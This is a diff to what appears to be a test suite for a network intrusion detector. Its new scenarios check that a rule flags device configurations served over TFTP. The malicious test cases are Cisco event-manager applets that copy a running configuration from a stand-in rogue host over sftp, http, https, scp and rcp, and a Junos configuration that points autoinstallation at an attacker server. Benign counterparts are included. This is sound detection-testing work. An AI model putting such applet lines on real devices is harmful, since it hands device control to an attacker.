@@ -70,7 +70,7 @@ AUTOINSTALL = f"""\
     "malicious",
     raises=[
         ("BW08", rule, BOOT_SERVER, f"10.0.1.{last}")
-        for last, rule in ((11, 6), (12, 0), (13, 1542007804), (14, 6), (15, 1542007790), (16, 0))
+        for last, rule in ((11, 6), (12, 0), (13, 1542007804), (14, 1542007806), (15, 1542007790), (16, 0))
     ],
     site=HQ,
     with_site=Expect(
@@ -130,6 +130,58 @@ configurep(["boot system flash:evil.bin", "end"])
         f' action 2.0 cli command "copy {EVIL} running-config" pattern "confirm"',
     )
     tftp.read(wire, "10.0.1.23", BOOT_SERVER, "edge23-confg", config("edge23", lines), client_port=50023)
+
+
+SCHEMES = (("sftp", GIVES), ("http", 1542007808), ("https", 1542007809), ("SCP", 1542007810), ("rcp", 1542007810))
+
+
+def applet(name: str, url: str) -> bytes:
+    """A configuration whose event manager copies from somewhere."""
+    lines = ("event manager applet EVIL", " event none", f' action 1.0 cli command "copy {url} running-config"')
+    return config(name, lines)
+
+
+@scenario(
+    "BW08",
+    "malicious",
+    raises=[
+        *(("BW08", sid, BOOT_SERVER, f"10.0.1.{last}") for last, (_, sid) in enumerate(SCHEMES, 41)),
+        ("BW08", 1542007807, "10.0.1.46", BOOT_SERVER),
+    ],
+    # Where images are held to their bytes, one rule is for all schemes.
+    raises_with_site=[
+        *(("BW08", GIVES, BOOT_SERVER, f"10.0.1.{last}") for last in range(41, 46)),
+        ("BW08", 1542007807, "10.0.1.46", BOOT_SERVER),
+    ],
+    site=HQ,
+    with_site=Expect((*(served(last, f"edge{last}-confg") for last in range(41, 46)), served(46, "ex46.conf"))),
+)
+def bw08_schemes(wire: Wire) -> None:
+    """Event applets copy by each scheme; a device saves a configuration that has Junos look for another one."""
+    for last, (scheme, _) in enumerate(SCHEMES, 41):
+        text = applet(f"edge{last}", f"{scheme}://{ROGUE}/evil.cfg")
+        tftp.read(wire, f"10.0.1.{last}", BOOT_SERVER, f"edge{last}-confg", text, client_port=50000 + last)
+    text = f"set version 21.4R1.12\nset system autoinstallation configuration-servers {EVIL}\n".encode()
+    tftp.write(wire, "10.0.1.46", BOOT_SERVER, "ex46.conf", text, client_port=50046)
+
+
+@scenario("BW08", "benign", site=HQ, with_site=Expect())
+def bw08_schemes_that_boot_nothing(wire: Wire) -> None:
+    """Switches negotiate, call home and keep archives: words and URLs as every configuration has them."""
+    for last, lines in enumerate(
+        (
+            ("interface Gi0/1", " speed auto", " duplex auto", " mdix auto", "ip ssh authentication-retries 3"),
+            ("call-home", " profile CiscoTAC-1", "  destination address http https://tools.example/its/service/oddce"),
+            ("archive", " path scp://backup@10.0.0.5/edge-$t", " write-memory", "logging url http://10.0.9.20/log"),
+            ("! autoinstallation is off, see http://wiki.example/autoinstallation", "no service config"),
+            ("kron policy-list BACKUP", " cli copy running-config rcp://10.0.0.5/edge"),
+        ),
+        51,
+    ):
+        text = config(f"edge{last}", lines)
+        tftp.read(wire, f"10.0.1.{last}", BOOT_SERVER, f"edge{last}-confg", text, client_port=50000 + last)
+    text = b"set version 21.4R1.12\ndelete system autoinstallation\nset interfaces ge-0/0/0 speed auto\n"
+    tftp.write(wire, "10.0.1.56", BOOT_SERVER, "ex56.conf", text, client_port=50056)
 
 
 def routeros(*lines: str) -> bytes:
